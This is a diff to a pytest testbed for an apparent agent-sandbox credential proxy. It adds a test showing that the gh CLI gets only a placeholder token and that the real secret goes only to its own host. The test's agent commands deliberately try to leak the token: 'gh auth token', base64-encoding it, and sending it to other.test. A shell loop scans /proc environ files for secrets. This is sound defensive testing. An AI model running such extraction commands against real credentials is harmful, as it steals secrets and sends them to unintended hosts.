@@ -16,6 +16,7 @@ did not exist (seen failing)."""
 
 from __future__ import annotations
 
+import base64
 import json
 import time
 from collections.abc import Iterator
@@ -30,6 +31,7 @@ pytestmark = pytest.mark.testbed
 OUTSIDE = "10.78.0.2"
 GIT_TOKEN = "gitinj-5ecret-d00d1e"
 API_TOKEN = "apiinj-5ecret-c0ffee"
+GH_TOKEN = "ghinj-5ecret-beef42"
 
 BLUEPRINT = """
 [agent]
@@ -61,10 +63,20 @@ hosts = ["api.test", "bad.test:8443"]
 value = "Bearer {secret}"
 token_env = "GH_TOKEN"
 secret_file = "/etc/leviath/inj-api.token"
+
+# Item 3: the real gh (Debian's) inside the agent's own fence; ghe.test is an
+# enterprise host to gh (https://ghe.test/api/v3/..., GH_ENTERPRISE_TOKEN).
+[credentials.gh]
+kind = "cli"
+command = ["gh"]
+hosts = ["ghe.test"]
+value = "token {secret}"
+token_env = "GH_ENTERPRISE_TOKEN"
+secret_file = "/etc/leviath/inj-gh.token"
 """
 
 HOSTS = f"""127.0.0.1 localhost
-{OUTSIDE} git.test api.test other.test bad.test
+{OUTSIDE} git.test api.test other.test bad.test ghe.test
 """
 
 SERVER = f"""
@@ -182,7 +194,7 @@ def agent(testbed: Testbed) -> Iterator[Agent]:
             -keyout ca.key -out ca.pem 2>/dev/null
         openssl req -newkey rsa:2048 -nodes -subj /CN=git.test -keyout tls.key \
             -out tls.csr 2>/dev/null
-        printf 'subjectAltName=DNS:git.test,DNS:api.test,DNS:other.test\\n' > san.ext
+        printf 'subjectAltName=DNS:git.test,DNS:api.test,DNS:other.test,DNS:ghe.test\\n' > san.ext
         openssl x509 -req -in tls.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days 2 \
             -extfile san.ext -out tls.pem 2>/dev/null
         openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=bad.test \
@@ -194,6 +206,7 @@ def agent(testbed: Testbed) -> Iterator[Agent]:
     bed.write_file("/srv/inj/server.py", SERVER)
     bed.write_file("/etc/leviath/inj-git.token", GIT_TOKEN + "\n", mode=0o600)
     bed.write_file("/etc/leviath/inj-api.token", API_TOKEN + "\n", mode=0o600)
+    bed.write_file("/etc/leviath/inj-gh.token", GH_TOKEN + "\n", mode=0o600)
     pid = bed.run("setsid ip netns exec lvinj python3 /srv/inj/server.py >/srv/inj/server.err "
                   "2>&1 </dev/null & echo $!").stdout.strip()
     bed.run("for i in $(seq 100); do curl -fs https://api.test/ready >/dev/null && exit 0; "
@@ -227,12 +240,13 @@ clone=$!
 hits=""
 while kill -0 $clone 2>/dev/null; do
   for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
-    grep -q -a -e {GIT_TOKEN} -e {API_TOKEN} "$f" 2>/dev/null && hits="$hits $f"
+    grep -q -a -e {GIT_TOKEN} -e {API_TOKEN} -e {GH_TOKEN} "$f" 2>/dev/null && hits="$hits $f"
   done
 done
 wait $clone; echo "clone=$?"
-env | grep -c -e {GIT_TOKEN} -e {API_TOKEN}
-grep -r -l -a -e {GIT_TOKEN} -e {API_TOKEN} "$HOME" . /tmp /run/leviath 2>/dev/null | head
+env | grep -c -e {GIT_TOKEN} -e {API_TOKEN} -e {GH_TOKEN}
+grep -r -l -a -e {GIT_TOKEN} -e {API_TOKEN} -e {GH_TOKEN} "$HOME" . /tmp /run/leviath \
+  2>/dev/null | head
 echo "hits:$hits"
 """
 
@@ -333,3 +347,33 @@ def test_lev_inspect_lists_which_hosts_carry_which_credential(testbed: Testbed, 
     assert "credential gitsrv (kind git): injected at the proxy toward git.test (git " \
            "fetch+push)" in out, out
     assert GIT_TOKEN not in out and API_TOKEN not in out
+
+
+def test_the_real_gh_runs_in_the_agents_fence_and_its_token_reaches_only_its_host(
+        testbed: Testbed, agent: Agent) -> None:
+    """Item 3, the attacks of the old wrapper: `gh auth token` printed the
+    token (in any form the agent asked for), `gh api --hostname HOST` sent it
+    to HOST. Now gh is the real program in the agent's own fence, its token
+    the placeholder; only ghe.test's requests get the secret."""
+    if not testbed.run("command -v gh", check=False).stdout.strip():
+        pytest.fail("gh is not installed (scripts/setup installs Debian's gh)")
+    rc, out, err = agent.call("command -v gh; GH_HOST=ghe.test gh auth token; "
+                              "GH_HOST=ghe.test gh api user; "
+                              "gh api --hostname other.test user; "
+                              "GH_HOST=ghe.test gh auth token | base64 -w0", timeout=60)
+    assert GH_TOKEN not in out + err, (out, err)
+    lines = out.splitlines()
+    # The real one, no wrapper first on the PATH.
+    assert lines[0] in ("/usr/bin/gh", "/bin/gh"), (out, err)
+    assert lines[1].startswith("leviath-placeholder-"), (out, err)
+    assert "hello from ghe.test" in out and "hello from other.test" in out, (out, err)
+    assert GH_TOKEN.encode() not in base64.b64decode(lines[-1] + "=="), lines[-1]
+    seen = log(testbed)
+    ghe = [e for e in seen if e["host"] == "ghe.test"]
+    assert ghe and all(e["auth"] == f"token {GH_TOKEN}" for e in ghe), ghe
+    assert all(GH_TOKEN not in str(e["auth"]) for e in seen if e["host"] != "ghe.test")
+    # The credential fence no longer runs it with the real token for the agent.
+    args = json.dumps({"name": "gh", "args": ["api", "--hostname", "other.test", "user"]})
+    rc, out, err = agent.call(f"lev tool credential --json '{args}'")
+    assert rc != 0 and "injected at the egress" in err, (rc, out, err)
+    assert GH_TOKEN not in out + err
